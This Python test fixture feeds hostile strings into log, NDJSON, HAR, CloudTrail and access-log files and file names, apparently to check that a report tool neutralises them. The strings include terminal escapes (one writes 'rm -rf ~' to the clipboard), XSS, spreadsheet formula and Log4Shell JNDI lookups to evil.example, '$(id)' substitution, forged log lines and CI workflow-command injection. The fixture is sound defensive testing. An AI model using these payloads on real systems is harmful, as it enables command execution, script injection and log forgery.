"""Text that wants to be obeyed by what shows it, in every place from which a report takes text."""

import json
import zipfile
from collections.abc import Callable
from pathlib import Path

from hostile import Case

PAYLOADS = {
    "clear the screen": "\x1b[2J\x1b[H\x1b[31m",
    "a link of a terminal": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "a device string": '\x1bP$q"p\x1b\\\x1b_G a=T;AAAA\x1b\\',
    "controls of eight bits": "\u009b2J\u009d8;;x\u009c\u0090q\u009c",
    "an unfinished escape": "\x1b]0;title that never ends",
    "text that reads backwards": "\u202egnp.exe\u202c\u2066x\u2069\u200f",
    "letters of no width": "a\u200b\u200d\ufeff\u2060b\U000e0041\U000e007f",
    "NUL, bell and backspace": "\x00\x07\x08\x7f\x0e\x0f",
    "rich markup": "[/bold][red]x[/]][link=https://evil.example]y[/link] :warning: [@click=quit]z[/]",
    "a formula": '=HYPERLINK("https://evil.example";"x")\t+1-2@SUM(1)|cmd',
    "HTML": "</script><script>alert(1)</script><img src=x onerror=alert(1)><!--",
    "Markdown": "](https://evil.example) ![x](https://evil.example/p.png) ``` | a | b | <details> # h",
    "a forged line": "x\\n2026-11-20T10:00:00Z INFO all uploads fine\r\n2026-11-20T10:00:00Z ERROR FORGED",
    "a workflow command": "%0A::error file=a.py,line=1::forged%0D%0A##[error]x",
    "a format string": "%s%s%n {0.__class__} ${jndi:ldap://evil.example/a} {{7*7}} $(id)",
}  # fmt: skip


def in_message(text: str) -> bytes:
    return f"2026-11-20T10:00:00Z ERROR UploadPart failed: NoSuchUpload: {text} uploadId=abc123abc123\n".encode()


def in_json(**fields: str) -> bytes:
    usual = {"time": "2026-11-20T10:00:00Z", "level": "error", "msg": "NoSuchUpload", "uploadId": "abc123abc123"}
    return json.dumps(usual | fields).encode() + b"\n"


def in_keys(text: str) -> bytes:
    return json.dumps({"msg": "NoSuchUpload", text: text, "nested": {text: {text: 1}}}).encode() + b"\n"


def in_har(text: str) -> bytes:
    body = f"<Error><Code>NoSuchUpload</Code><Message>{text}</Message><Key>{text}</Key></Error>"
    entry = {
        "startedDateTime": text,
        "request": {"method": "PUT", "url": f"https://b.example/{text}?partNumber=1&uploadId=abc123abc123"},
        "response": {"status": 404, "content": {"text": body}, "_error": text},
    }
    return json.dumps({"log": {"entries": [entry]}}).encode()


def in_trail(text: str) -> bytes:
    asked = {"bucketName": text, "key": text, "uploadId": f"abc123{text}", "partNumber": text}
    event = {"eventName": "UploadPart", "errorCode": "NoSuchUpload", "errorMessage": text, "requestParameters": asked}
    return json.dumps({"Records": [event | {"eventTime": text, "requestID": text}]}).encode()


def in_access_log(text: str) -> bytes:
    word = text.replace(" ", "_").replace('"', "'").replace("\r", "_").replace("\n", "_")
    return (
        f"o {word} [20/Nov/2026:10:00:00 +0000] 192.0.2.1 - R1 REST.PUT.PART {word} "
        f'"PUT /{word}?partNumber=1&uploadId=abc123{word} HTTP/1.1" 404 NoSuchUpload 1 - 1 1 "-" "{word}" -\n'
    ).encode()


PLACES: dict[str, tuple[Callable[[str], bytes], str]] = {
    "a message": (in_message, "a.log"),
    "a message in JSON": (lambda text: in_json(err=text, stack=text), "a.ndjson"),
    "ids": (lambda text: in_json(uploadId=f"abc123{text}", videoId=text, bucket=text, key=f"k/{text}"), "a.ndjson"),
    "keys": (in_keys, "a.ndjson"),
    "a HAR": (in_har, "a.har"),
    "CloudTrail": (in_trail, "a.json"),
    "an access log": (in_access_log, "a.log"),
}


def _file(data: bytes, name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(data)
        return folder / name

    return make


def _names(text: str) -> Callable[[Path], Path]:
    """A file, and a member of an archive, called so."""
    name = text.replace("/", "\u2215").replace("\0", "")

    def make(folder: Path) -> Path:
        (folder / f"{name}.log").write_bytes(in_message("x"))
        with zipfile.ZipFile(folder / "a.zip", "w") as archive:
            archive.writestr(zipfile.ZipInfo(f"{text.replace(chr(0), '')}.log"), in_message("x"))
        return folder

    return make


CASES = [
    *(
        Case(f"{kind} in {place}", _file(write(text), name), finds=None, unread=None)
        for kind, text in PAYLOADS.items()
        for place, (write, name) in PLACES.items()
    ),
    *(Case(f"{kind} in file names", _names(text), finds=2) for kind, text in PAYLOADS.items()),
]
